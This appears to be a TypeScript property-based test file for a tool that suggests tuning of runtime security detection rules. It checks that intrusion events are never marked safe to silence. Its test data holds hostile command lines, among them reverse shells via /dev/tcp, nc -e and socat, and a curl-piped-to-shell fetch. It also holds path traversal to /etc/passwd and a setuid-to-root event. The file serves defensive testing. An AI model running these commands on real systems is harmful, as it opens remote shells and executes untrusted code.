// Rules that are not ours: what an intruder does is never safe to silence, whatever the rule prints of it.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type Asked, tune } from './testing/their-rule.ts';

const program = { 'proc.exepath': '/opt/app/report', 'proc.cmdline': 'report --daily' };

describe('an intrusion', () => {
  const attacks = fc.constantFrom(
    'bash -c bash -i >& /dev/tcp/185.1.2.3/4444 0>&1',
    'sh -c nc -e /bin/sh 1.2.3.4 4444',
    'sh -c curl http://1.2.3.4/x.sh | sh',
    'nc 1.2.3.4 443',
    'perl -e use Socket',
    'python3 -c import socket,pty',
    'sh /tmp/.x/run.sh',
    'base64 -d',
    'socat exec:bash tcp:1.2.3.4:1',
  );
  /** What an output may print, or leave out, or print as null. */
  const printed = fc.record({
    'proc.exepath': fc.constantFrom('path', 'none', 'null'),
    'proc.name': fc.boolean(),
    'proc.pname': fc.constantFrom('nginx', 'java', 'none'),
    'proc.tty': fc.constantFrom('0', '34816', 'none'),
    image: fc.boolean(),
    namespace: fc.boolean(),
    'container.id': fc.constantFrom('3f2a9c1b', 'host', 'none'),
  });

  it('is never safe, whatever fields the rule prints', () => {
    fc.assert(
      fc.property(attacks, printed, (command, has) => {
        const name = command.split(' ')[0] ?? '';
        const fields = Object.fromEntries(
          Object.entries({
            'proc.cmdline': command,
            'proc.exepath':
              has['proc.exepath'] === 'null'
                ? null
                : has['proc.exepath'] === 'path' && `/usr/bin/${name}`,
            'proc.name': has['proc.name'] && name,
            'proc.pname': has['proc.pname'] !== 'none' && has['proc.pname'],
            'proc.tty': has['proc.tty'] !== 'none' && Number(has['proc.tty']),
            'container.image.repository': has.image && 'registry.example/app',
            'k8s.ns.name': has.namespace && 'shop',
            'container.id': has['container.id'] !== 'none' && has['container.id'],
          }).filter(([, value]) => value !== false),
        );
        const { suggestions } = tune({ condition: 'evt.type = execve', output: 'Run', fields });
        expect(suggestions.filter(({ isSafe }) => isSafe)).toEqual([]);
      }),
      { numRuns: 150 },
    );
  });

  const run = { condition: 'evt.type = execve', output: 'Run' };
  const image = { 'container.image.repository': 'registry.example/app' };
  it.each<[string, Asked]>([
    [
      'a program below a web server',
      {
        ...run,
        fields: {
          'proc.exepath': '/usr/bin/id',
          'proc.cmdline': 'id',
          'proc.pname': 'nginx',
          ...image,
        },
      },
    ],
    [
      'a program below a database',
      {
        ...run,
        fields: {
          'proc.exepath': '/usr/bin/id',
          'proc.cmdline': 'id',
          'proc.pname': 'postgres',
          ...image,
        },
      },
    ],
    [
      'what was typed on a terminal',
      {
        ...run,
        fields: {
          'proc.exepath': '/usr/bin/whoami',
          'proc.cmdline': 'whoami',
          'proc.tty': 34816,
          ...image,
        },
      },
    ],
    [
      'a path that climbs',
      {
        fields: {
          ...program,
          ...image,
          'fd.name': '/etc/passwd',
          'fd.nameraw': '/static/../../../etc/passwd',
        },
      },
    ],
    [
      'a set-id bit',
      {
        condition: 'evt.type = chmod',
        fields: {
          ...program,
          ...image,
          'evt.arg.filename': '/usr/bin/x',
          'evt.arg.mode': 'S_IXUSR|S_ISUID',
        },
      },
    ],
    [
      'a program in a web root',
      { ...run, fields: { 'proc.exepath': '/var/www/x', 'proc.cmdline': 'x', ...image } },
    ],
    ['files of the machine', { fields: { ...program, ...image, 'fd.name': '/host/etc/passwd' } }],
    [
      'becoming root',
      {
        condition: 'evt.type = setuid',
        fields: {
          ...program,
          ...image,
          'evt.type': 'setuid',
          'evt.arg.uid': 'root',
          'user.name': 'www',
        },
      },
    ],
    [
      'a command line too long for a rule',
      {
        ...run,
        fields: {
          'proc.exepath': '/opt/app/report',
          'proc.cmdline': `report ${'x'.repeat(300)}`,
          ...image,
        },
      },
    ],
    [
      'a file whose name no rule can hold',
      { fields: { ...program, ...image, 'fd.name': `/srv/${'x'.repeat(300)}` } },
    ],
  ])('is never safe: %s', (_, asked) => {
    const { suggestions } = tune(asked);
    expect(suggestions.length).toBeGreaterThan(0);
    expect(suggestions.filter(({ isSafe }) => isSafe)).toEqual([]);
  });

  it('is told before any suggestion where a shell is handed to the network', () => {
    const { notNoise } = tune({
      ...run,
      fields: { 'proc.cmdline': 'nc -e /bin/sh 1.2.3.4 9000', ...image },
    });
    expect(notNoise[0]?.message).toMatch(/^The command hands a shell/);
  });

  it('is not taken for one where a builder steps out of one folder', () => {
    const fields = { ...program, ...image, 'fd.name': '/srv/lib/a', 'fd.nameraw': '../lib/a' };
    expect(tune({ fields }).suggestions[0]?.isSafe).toBe(true);
  });
});
